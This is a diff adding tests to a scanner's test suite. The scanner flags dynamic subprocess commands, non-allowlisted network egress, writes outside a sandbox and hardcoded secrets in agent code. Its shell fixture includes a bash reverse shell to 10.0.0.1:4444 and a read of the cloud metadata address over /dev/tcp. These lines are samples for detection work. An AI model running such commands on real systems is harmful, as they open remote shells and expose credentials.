@@ -2269,6 +2269,20 @@ def check_command(cmd: str):
     expect(await check('cli/commands/build.py', src)).toEqual(['10 subprocess-dynamic-command medium']);
   });
 
+  it('`["git", "-C", repo] + args` starts git; `[exe] + args` starts what a parameter names (Python)', async () => {
+    // the shape of agnoctl's `_run_compose`
+    const src = `import subprocess
+from typing import List
+
+def run_git(repo: str, args: List[str]):
+    return subprocess.run(["git", "-C", repo] + args, check=True)
+
+def run_any(exe: str, args: List[str]):
+    return subprocess.run([exe] + args, check=True)
+`;
+    expect(await check('cli/lifecycle.py', src)).toEqual(['8 subprocess-dynamic-command medium']);
+  });
+
   it('`["node", "npm"].includes(exe)` is the same check; a computed array is not (TypeScript)', async () => {
     const src = `import { spawnSync } from 'node:child_process';
 export function version(exe: string, more: string[]) {
@@ -2297,5 +2311,34 @@ def load_secrets(text):
     return yaml.load(text, Loader=SecretYamlLoader), yaml.load(text, Loader=Tagged), yaml.load(text, Loader=Wide)
 `;
     expect(await check('cli/secrets/yaml_tags.py', src)).toEqual(['14 code-unsafe-deserialization high']);
+  });
+});
+
+describe('agent code not used for tuning, eleventh round: bash network redirections, PEM headers in messages', () => {
+  it('`> /dev/tcp/$HOST/$PORT` is a connection judged by its host, not a file outside the sandbox (shell)', async () => {
+    // the shape of wait-for-it.sh, shipped at the top of many agent repositories
+    const src = `#!/bin/bash
+HOST=$1
+PORT=$2
+(echo -n > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1
+cat < /dev/tcp/169.254.169.254/80
+bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
+echo ok > /etc/motd
+`;
+    expect(await check('wait-for-it.sh', src)).toEqual(['5 egress-not-allowlisted high', '6 egress-not-allowlisted medium', '7 file-outside-sandbox high']);
+  });
+
+  it('a PEM header named in an error message is not a key; a header starting a key is (Python)', async () => {
+    // the shape of agno's GitHub App settings check
+    const src = `def check(private_key):
+    if not private_key.strip().startswith("-----BEGIN"):
+        raise ValueError(
+            "private_key must be a PEM-formatted RSA private key "
+            "(starting with '-----BEGIN RSA PRIVATE KEY-----' or '-----BEGIN PRIVATE KEY-----')"
+        )
+
+KEY = "-----BEGIN RSA PRIVATE KEY-----\\n"
+`;
+    expect(await check('knowledge/github.py', src)).toEqual(['8 hardcoded-secret high']);
   });
 });
